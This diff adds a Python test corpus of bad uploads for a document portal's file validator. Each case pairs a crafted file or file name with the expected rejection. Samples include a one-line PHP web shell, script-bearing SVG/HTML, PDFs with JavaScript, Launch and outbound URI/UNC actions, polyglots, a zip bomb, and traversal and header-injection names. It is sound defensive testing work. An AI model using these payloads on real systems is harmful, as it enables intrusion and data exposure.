@@ -1,0 +1,367 @@
+"""A corpus of bad uploads, built in code: wrong types, polyglots, sizes, names, active PDFs.
+
+Every `Bad` case names the reject code and the message the applicant must see; every
+`Renamed` case is a real document under a hostile name, accepted and stored under a
+random name, with the name it is offered under when downloaded.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+import zlib
+from dataclasses import dataclass
+from urllib.parse import quote
+
+LIMIT = 100 * 1024  # MAX_UPLOAD_BYTES for the corpus run
+TOO_LARGE = "The file is larger than 0.097656 MB."  # 100 KiB, rounded down
+
+BAD_TYPE = "Only PDF, JPEG and PNG files are accepted."
+EMPTY = "The file is empty."
+BAD_NAME = "The file name is not acceptable."
+ACTIVE = "PDF files with scripts or embedded actions are not accepted."
+
+
+# --- real, minimal files ----------------------------------------------------------------
+
+
+def pdf(catalog: bytes = b"", objects: tuple[bytes, ...] = (), tail: bytes = b"") -> bytes:
+    """A one-page PDF with an xref table; `objects` are numbered from 4 on."""
+    bodies = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        *objects,
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(bodies, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    out += tail
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(bodies) + 1,
+        xref,
+    )
+    return bytes(out)
+
+
+def stream(dictionary: bytes, body: bytes) -> bytes:
+    """A stream object's body (for `pdf(objects=...)`)."""
+    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(body)) + body + b"\nendstream"
+
+
+def object_stream(
+    objects: dict[int, bytes], filters: bytes = b"/Filter /FlateDecode", typed: bool = True
+) -> bytes:
+    """An object stream (PDF 1.5) holding `objects`, compressed as `filters` says."""
+    offsets, body = [], b""
+    for number, text in objects.items():
+        offsets.append(b"%d %d" % (number, len(body)))
+        body += text + b"\n"
+    header = b" ".join(offsets) + b"\n"
+    raw = header + body
+    if b"Flate" in filters:
+        raw = zlib.compress(raw)
+    if filters.count(b"Flate") == 2:
+        raw = zlib.compress(raw)
+    kind = b"/Type /ObjStm " if typed else b""
+    return stream(kind + b"/N %d /First %d " % (len(objects), len(header)) + filters, raw)
+
+
+def png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def png(*extra_chunks: bytes) -> bytes:
+    """A 1x1 white PNG."""
+    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+    pixels = png_chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
+    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra_chunks) + pixels + png_chunk(b"IEND", b"")
+
+
+def jpeg() -> bytes:
+    """An 8x8 grey baseline JPEG."""
+
+    def segment(marker: int, payload: bytes) -> bytes:
+        return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload
+
+    one_code = bytes([1] + [0] * 15) + b"\x00"
+    return b"".join(
+        [
+            b"\xff\xd8",
+            segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
+            segment(0xDB, b"\x00" + b"\x01" * 64),
+            segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00"),
+            segment(0xC4, b"\x00" + one_code),
+            segment(0xC4, b"\x10" + one_code),
+            segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
+            b"\x3f",
+            b"\xff\xd9",
+        ]
+    )
+
+
+def jpeg_with_comment(comment: bytes) -> bytes:
+    """The JPEG with a COM segment right after its start marker."""
+    return jpeg()[:2] + struct.pack(">BBH", 0xFF, 0xFE, len(comment) + 2) + comment + jpeg()[2:]
+
+
+def jar() -> bytes:
+    """A ZIP with a Java manifest and a class: what a GIFAR appends."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: X\n")
+        archive.writestr("X.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
+    return out.getvalue()
+
+
+EXE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + b"\x00" * 44
+    + (b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00L\x01\x03\x00" + b"\x00" * 200)
+)
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
+HTML = b"<!DOCTYPE html><html><body><script>fetch('/my/requests')</script></body></html>"
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'
+    b"<script>alert(document.domain)</script></svg>"
+)
+PHP = b"<?php system($_GET['c']); ?>"
+PADDING = b"%" + b"-" * 2000 + b"\n"  # pushes a payload past the first kilobyte
+GIF = (
+    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
+    b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
+)
+
+
+# --- the cases ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Bad:
+    """An upload that must be refused with `code` and `message`, and change nothing."""
+
+    id: str
+    data: bytes
+    filename: str
+    code: str
+    message: str
+
+
+@dataclass(frozen=True)
+class Renamed:
+    """A real document under a hostile name: accepted, offered as `download`."""
+
+    id: str
+    data: bytes
+    filename: str
+    shown: str  # the name kept and listed
+    download: str  # the name in Content-Disposition
+
+
+def _bad_types() -> list[Bad]:
+    cases = {
+        "exe-as-pdf": (EXE, "invoice.pdf"),
+        "exe-as-jpg": (EXE, "photo.jpg"),
+        "elf-as-png": (ELF, "scan.png"),
+        "elf-as-pdf": (ELF, "charter.pdf"),
+        "html-as-pdf": (HTML, "charter.pdf"),
+        "html-as-jpg": (HTML, "photo.jpg"),
+        "zip-as-pdf": (jar(), "charter.pdf"),
+        "jar-as-png": (jar(), "scan.png"),
+        "svg-script-as-png": (SVG, "scan.png"),
+        "svg-script-as-pdf": (SVG, "charter.pdf"),
+        "gif-as-png": (GIF, "scan.png"),
+        "text-as-pdf": (b"Dear sir, please find attached.\n", "letter.pdf"),
+        "whitespace-only": (b" \n\t\r\n   ", "blank.pdf"),
+        "double-extension-pdf-exe": (EXE, "charter.pdf.exe"),
+        "double-extension-exe-pdf": (EXE, "charter.exe.pdf"),
+        # Polyglots: a good header with something else inside or after it.
+        "pdf-after-junk": (b"JUNK" * 64 + pdf(), "charter.pdf"),
+        "html-then-pdf": (HTML + b"\n" + pdf(), "charter.pdf"),
+        "gifar-png-plus-jar": (png() + jar(), "scan.png"),
+        "jpeg-plus-jar": (jpeg() + jar(), "photo.jpg"),
+        "pdf-plus-zip": (pdf() + jar(), "charter.pdf"),
+        "png-html-in-first-kb": (
+            png(png_chunk(b"tEXt", b"c\x00<html><script>x</script>")),
+            "a.png",
+        ),
+        "png-plus-html-after-first-kb": (
+            png(png_chunk(b"tEXt", b"c\x00" + PADDING)) + HTML,
+            "scan.png",
+        ),
+        "jpeg-trailing-php": (jpeg() + b"\n" * 1100 + PHP, "photo.jpg"),
+        "jpeg-comment-php-after-first-kb": (jpeg_with_comment(b" " * 2000 + PHP), "photo.jpg"),
+        "pdf-with-script-tag-after-first-kb": (pdf(tail=PADDING + b"%<script src=//x>\n"), "a.pdf"),
+    }
+    return [Bad(id, data, name, "bad_type", BAD_TYPE) for id, (data, name) in cases.items()]
+
+
+def _active_pdfs() -> list[Bad]:
+    action = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+    catalogs = {
+        "pdf-openaction-javascript": b"/OpenAction " + action,
+        "pdf-names-javascript": b"/Names << /JavaScript 4 0 R >>",
+        "pdf-js-only": b"/OpenAction << /S /Foo /JS (x) >>",
+        "pdf-additional-actions-aa": b"/AA << /WC << /S /Named /N /Print >> >>",
+        "pdf-launch": b"/OpenAction << /S /Launch /F (cmd.exe) >>",
+        "pdf-embedded-files": b"/Names << /EmbeddedFiles 4 0 R >>",
+        "pdf-embedded-file": b"/X << /Type /EmbeddedFile >>",
+        "pdf-richmedia": b"/X << /Subtype /RichMedia >>",
+        "pdf-xfa": b"/AcroForm << /Fields [] /XFA 4 0 R >>",
+        "pdf-hex-escaped-javascript": b"/OpenAction << /S /J#61vaScript /J#53 (x) >>",
+        "pdf-fully-hex-escaped": b"/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>",
+        "pdf-hex-escaped-aa": b"/A#41 << >>",
+        "pdf-openaction-uri": b"/OpenAction << /S /URI /URI (https://tracker.example/x) >>",
+        "pdf-openaction-gotor-unc": b"/OpenAction << /S /GoToR /F (//evil/share/x.pdf) >>",
+        "pdf-openaction-submitform": b"/OpenAction << /S /SubmitForm /F (https://x.example) >>",
+        "pdf-openaction-goto-then-uri": (
+            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x) >> >>"
+        ),
+        "pdf-openaction-goto-string-hiding-next": (
+            b"/OpenAction << /S /GoTo /T (>>) /D [3 0 R /Fit] /Next << /S /URI /URI (x) >> >>"
+        ),
+        "pdf-openaction-to-missing-object": b"/OpenAction 9 0 R",
+    }
+    cases = [
+        Bad(id, pdf(catalog), "a.pdf", "active_content", ACTIVE) for id, catalog in catalogs.items()
+    ]
+    hidden = {4: action}
+    uri = {4: b"<< /S /URI /URI (https://tracker.example/x) >>"}
+    more = {
+        "pdf-openaction-indirect-uri": pdf(b"/OpenAction 4 0 R", objects=(uri[4],)),
+        "pdf-javascript-in-later-object": pdf(objects=(action,)),
+        "pdf-objstm-flate-javascript": pdf(b"/OpenAction 4 0 R", objects=(object_stream(hidden),)),
+        "pdf-objstm-untyped-javascript": pdf(objects=(object_stream(hidden, typed=False),)),
+        "pdf-objstm-double-flate-javascript": pdf(
+            objects=(object_stream(hidden, b"/Filter [/FlateDecode /Fl]"),)
+        ),
+        "pdf-objstm-openaction-uri": pdf(
+            b"/OpenAction 5 0 R", objects=(object_stream({5: uri[4]}),)
+        ),
+        "pdf-objstm-hex-filter-uninspectable": pdf(
+            objects=(object_stream(hidden, b"/Filter /ASCIIHexDecode"),)
+        ),
+        "pdf-objstm-predictor-uninspectable": pdf(
+            objects=(
+                object_stream(hidden, b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
+            )
+        ),
+        "pdf-objstm-broken-zlib": pdf(
+            objects=(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", b"x\x9cbroken"),)
+        ),
+        "pdf-objstm-zip-bomb": pdf(
+            objects=(
+                stream(
+                    b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
+                    zlib.compress(zlib.compress(b"4 0\n" + b" " * (65 * 1024 * 1024), 9), 9),
+                ),
+            )
+        ),
+        "pdf-flate-stream-hiding-objects": pdf(
+            objects=(stream(b"/Filter /FlateDecode", zlib.compress(b"4 0 5 40\n" + action)),)
+        ),
+    }
+    return cases + [Bad(id, data, "a.pdf", "active_content", ACTIVE) for id, data in more.items()]
+
+
+def _sizes_and_names() -> list[Bad]:
+    good = pdf()
+    oversize = good + b"%" + b"0" * (LIMIT - len(good))
+    assert len(oversize) == LIMIT + 1
+    return [
+        Bad("empty", b"", "charter.pdf", "empty", EMPTY),
+        Bad("oversize-by-one-byte", oversize, "charter.pdf", "too_large", TOO_LARGE),
+        Bad("oversize-exe", EXE * (LIMIT // len(EXE) + 1), "charter.pdf", "too_large", TOO_LARGE),
+        Bad("name-with-nul", good, "a\x00.pdf", "bad_name", BAD_NAME),
+        Bad("name-with-nul-before-exe", good, "charter.pdf\x00.exe", "bad_name", BAD_NAME),
+        Bad("name-of-300-characters", good, "x" * 296 + ".pdf", "bad_name", BAD_NAME),
+        Bad("name-of-300-cyrillic-letters", good, "я" * 300, "bad_name", BAD_NAME),
+        Bad("name-only-dots-and-slashes", good, "../..", "bad_name", BAD_NAME),
+        Bad("name-only-controls", good, "\x01\x02\u202e\u200b", "bad_name", BAD_NAME),
+    ]
+
+
+BAD: list[Bad] = [*_bad_types(), *_active_pdfs(), *_sizes_and_names()]
+
+
+def _renamed() -> list[Renamed]:
+    good = pdf()
+    return [
+        Renamed("posix-traversal", good, "../../etc/passwd.pdf", "passwd.pdf", "passwd.pdf"),
+        Renamed("windows-traversal", good, "..\\..\\win.pdf", "win.pdf", "win.pdf"),
+        Renamed("absolute-path", good, "/etc/x.pdf", "x.pdf", "x.pdf"),
+        Renamed("fullwidth-solidus", good, "..\uff0f..\uff0fx.pdf", "x.pdf", "x.pdf"),
+        Renamed(
+            "header-injection",
+            good,
+            "a.pdf\r\nSet-Cookie: x=1\r\n\r\n<b>x.pdf",
+            "a.pdf Set-Cookie_ x=1 _b_x.pdf",
+            "a.pdf Set-Cookie_ x=1 _b_x.pdf",
+        ),
+        Renamed(
+            "quote-and-semicolon",
+            good,
+            'a";filename=evil.exe',
+            "a_;filename=evil.exe",
+            "a_;filename=evil.exe.pdf",
+        ),
+        Renamed(
+            "rtl-override", good, "invoice\u202efdp.exe", "invoicefdp.exe", "invoicefdp.exe.pdf"
+        ),
+        Renamed("windows-device-name", good, "CON.pdf", "CON.pdf", "_CON.pdf"),
+        Renamed(
+            "double-extension-pdf-exe",
+            good,
+            "charter.pdf.exe",
+            "charter.pdf.exe",
+            "charter.pdf.exe.pdf",
+        ),
+        Renamed("png-named-pdf", png(), "scan.pdf", "scan.pdf", "scan.pdf.png"),
+        Renamed("decomposed-unicode", good, "e\u0301.pdf", "\u00e9.pdf", "\u00e9.pdf"),
+        Renamed("kazakh-name", good, "Анықтама №5.pdf", "Анықтама №5.pdf", "Анықтама №5.pdf"),
+        Renamed("long-name", good, "д" * 200 + ".pdf", "д" * 116 + ".pdf", "д" * 116 + ".pdf"),
+        Renamed("tab-and-escape", good, "a\tb\x1b[31m.pdf", "a b[31m.pdf", "a b[31m.pdf"),
+    ]
+
+
+RENAMED: list[Renamed] = _renamed()
+
+# Files that look odd to a filter but are fine: they must still go through.
+GOOD: dict[str, bytes] = {
+    "pdf-openaction-first-page": pdf(b"/OpenAction [3 0 R /Fit]"),
+    "pdf-openaction-goto": pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
+    "pdf-openaction-indirect-destination": pdf(b"/OpenAction 4 0 R", objects=(b"[3 0 R /Fit]",)),
+    "pdf-objstm-plain-objects": pdf(
+        b"/OpenAction 5 0 R", objects=(object_stream({5: b"[3 0 R /FitH 0]", 6: b"<< /A 1 >>"}),)
+    ),
+    "pdf-flate-content": pdf(objects=(stream(b"/Filter /FlateDecode", zlib.compress(b"q Q")),)),
+}
+
+
+def multipart(fields: dict[str, str], files: dict[str, tuple[bytes, str]]) -> tuple[bytes, str]:
+    """A multipart/form-data body and its Content-Type, sending each file name exactly.
+
+    Names a quoted string cannot carry (CR, LF, quotes, NUL) go as RFC 5987 filename*,
+    which werkzeug decodes: so they reach the portal as sent.
+    """
+    boundary = "corpus-boundary-7f3a"
+    out = bytearray()
+    for name, value in fields.items():
+        out += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
+        out += value.encode() + b"\r\n"
+    for name, (data, filename) in files.items():
+        if any(ch in filename for ch in '"\\\r\n\x00') or not filename.isascii():
+            disposition = f"filename*=UTF-8''{quote(filename, safe='')}"
+        else:
+            disposition = f'filename="{filename}"'
+        out += f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '.encode()
+        out += disposition.encode() + b"\r\nContent-Type: application/octet-stream\r\n\r\n"
+        out += data + b"\r\n"
+    out += f"--{boundary}--\r\n".encode()
+    return bytes(out), f"multipart/form-data; boundary={boundary}"
